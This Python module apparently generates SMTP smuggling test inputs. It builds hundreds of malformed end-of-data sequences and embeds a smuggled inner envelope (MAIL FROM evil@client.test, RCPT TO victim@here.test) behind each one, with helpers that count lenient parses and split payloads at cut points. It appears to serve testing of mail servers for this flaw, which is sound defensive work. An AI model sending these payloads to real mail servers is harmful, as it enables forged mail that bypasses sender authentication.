"""End-of-data smuggling: what some server somewhere takes for the end of a message, put into the middle of one.

The end is CR LF . CR LF.  Everything else that has been taken for it is a line end that is none, then dots, then a line
end that is none; all of these are made here, and a few ends that were seen in the wild and do not look like that.
"""

import re
from collections.abc import Iterator
from typing import Final

# What is, or was, or could be read as a line end.
LINE_ENDS: Final = {
    "crlf": b"\r\n",
    "lf": b"\n",
    "cr": b"\r",
    "cr-cr": b"\r\r",
    "lf-lf": b"\n\n",
    "lf-cr": b"\n\r",
    "cr-crlf": b"\r\r\n",
    "crlf-cr": b"\r\n\r",
    "crlf-lf": b"\r\n\n",
    "nul": b"\0",
    "cr-nul-lf": b"\r\0\n",
    "crlf-nul": b"\r\n\0",
    "nul-crlf": b"\0\r\n",
    "nul-lf": b"\0\n",
    "lf-nul": b"\n\0",
    "cr-nul": b"\r\0",
    "vt": b"\v",
    "ff": b"\f",
    "fs": b"\x1c",
    "nel": b"\x85",
    "utf8-nel": b"\xc2\x85",
    "line-separator": b"\xe2\x80\xa8",
    "blank-crlf": b" \r\n",
    "crlf-blank": b"\r\n ",
    "crlf-bs": b"\r\nx\b",
}
DOTS: Final = (b".", b"..")
OTHERS: Final = {
    "crlf-dot-alone": b"\r\n.",
    "crlf-dot-quit": b"\r\n.QUIT\r\n",
    "dot-dot-crlf-dot-lf": b"\r\n..\r\n.\n",
    "stuffed-end": b"\r\n..\r\n",
    "end-in-a-long-line": b"\r\n" + b"x" * 2000 + b"\n.\n",
    "end-behind-998": b"\r\n" + b"x" * 998 + b"\r\n.\r",
    "dots-and-blanks": b"\r\n. \r\n",
    "dot-nul": b"\r\n.\0\r\n",
    "wide-dot": b"\r\n\xef\xbc\x8e\r\n",
    "html-dot": b"\r\n&#46;\r\n",
    "quoted-printable-dot": b"\r\n=2E\r\n",
}
END: Final = b"\r\n.\r\n"
OUTER: Final = b"Subject: outer\r\n\r\nbefore"
"""Begins each message that something is hidden in."""
INNER: Final = b"MAIL FROM:<evil@client.test>\r\nRCPT TO:<victim@here.test>\r\nDATA\r\nSubject: smuggled\r\n\r\ninner"
"""What would be a message if what stands before it were taken for the end; its own end is that of the outer one."""


def sequences() -> dict[str, bytes]:
    """Return all that is tried, by name."""
    found = {
        f"{first}.{len(dots)}.{second}": before + dots + after
        for first, before in LINE_ENDS.items()
        for second, after in LINE_ENDS.items()
        for dots in DOTS
        if before + dots + after != END
    }
    return found | OTHERS


def hidden(sequence: bytes) -> bytes:
    """Return content as SMTP carries it, its end included, in which ``sequence`` pretends to be the end."""
    return OUTER + sequence + INNER + END


def ends(sequence: bytes) -> bool:
    """Tell whether the true end stands in it after all: then what follows is commands, as it should be."""
    return END in OUTER + sequence + INNER


def lenient_ends(wire: bytes) -> int:
    """Return how often a server sees the end of a message that takes every CR and every LF for the end of a line."""
    return re.split(rb"[\r\n]", wire).count(b".")


def cuts(data: bytes, around: bytes) -> Iterator[tuple[bytes, bytes]]:
    """Yield the data in two pieces, for every cut in and around what stands in it."""
    at = data.index(around)
    for cut in range(max(0, at - 3), min(len(data), at + min(len(around), 20) + 4)):
        yield data[:cut], data[cut:]
